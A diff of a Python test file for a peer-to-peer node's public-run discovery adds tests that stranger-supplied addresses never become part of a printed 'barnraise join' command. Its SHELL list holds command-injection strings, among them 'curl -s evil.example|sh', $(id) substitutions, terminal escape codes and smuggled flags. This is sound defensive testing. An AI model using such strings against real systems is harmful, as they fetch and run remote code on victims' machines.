@@ -1,14 +1,18 @@
 """Runs that strangers can see: who says what, and what is made of different words."""
 
+import shlex
 from dataclasses import replace
 from pathlib import Path
 
+import pytest
 from trio.testing import MockClock
 
 from dht.kademlia.keyspace import topic_key
 from dht.kademlia.records import SignedRecord, sign_record
 from dht.kademlia.routing import Contact
-from node.peers.public_runs import advert_of, find_public_runs, keep_said, public_runs, topic_of
+from node.commands.meeting import _print_runs
+from node.peers.joining import parse_target
+from node.peers.public_runs import advert_of, find_public_runs, public_runs, say_run, topic_of
 from node.state.dht_table import DHT_TABLE_FILE, read_table
 from node.state.known_peers import KnownPeer, KnownPeers
 from protocol.identity import Ed25519Signer, peer_id_text
@@ -32,8 +36,8 @@ async def test_run_for_strangers_is_seen_and_one_of_friends_is_not(
 ) -> None:
     async with open_nodes(MemoryNetwork(), 4) as nodes:
         for node in nodes[:2]:
-            await keep_said(node.directory, OPEN, [ADDRESS])
-        await keep_said(nodes[2].directory, toy_manifest(), [ADDRESS])
+            await say_run(node.directory, OPEN, [ADDRESS])
+        await say_run(nodes[2].directory, toy_manifest(), [ADDRESS])
         (run,) = await find_public_runs(nodes[3].directory)
         assert run.advert == advert_of(OPEN, [ADDRESS])
         told = run.as_json()
@@ -52,6 +56,41 @@ def test_where_words_differ_those_of_most_peers_count_and_garbage_counts_nothing
     (run,) = public_runs([record(4, b"\x01"), *records])
     assert run.advert.title == OPEN.title
     assert len(run.peers) == 2
+
+
+SHELL = (
+    "/ip4/203.0.113.7/tcp/4001;curl -s evil.example|sh;#",
+    "/dns/$(id)/tcp/4001",
+    "/dns/a`id`/tcp/4001",
+    "/ip6/fe80::1%;id;/tcp/4001",
+    "/ip4/203.0.113.7/tcp/4001/p2p/x\nbarnraise\x1b[2K",
+    "/ip4/203.0.113.7/tcp/4001 --state /etc",
+    "--psk=x",
+)
+
+
+@pytest.mark.parametrize("said", SHELL, ids=ascii)
+def test_no_word_of_a_stranger_becomes_part_of_a_command(
+    said: str, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """What is printed to be pasted is an address that `barnraise join` takes, or nothing."""
+    found = public_runs([record(1, encode(replace(advert_of(OPEN, [ADDRESS]), addresses=(said,))))])
+    assert found[0].join_addresses() == found[0].as_json()["join"] == []
+    _print_runs(found)
+    assert "barnraise join" not in capsys.readouterr().out
+
+
+def test_an_address_behind_a_strange_one_is_told_as_one_word(
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    advert = replace(advert_of(OPEN, [ADDRESS]), addresses=(SHELL[0], ADDRESS))
+    found = public_runs([record(1, encode(advert))])
+    (address,) = found[0].join_addresses()
+    _print_runs(found)
+    (line,) = [line for line in capsys.readouterr().out.splitlines() if "barnraise join" in line]
+    command = line.partition(": ")[2]
+    assert shlex.split(command) == ["barnraise", "join", address]
+    assert parse_target(address).addresses[0].address == ADDRESS
 
 
 def test_table_is_read_back_and_a_damaged_file_is_nobody(tmp_path: Path) -> None:
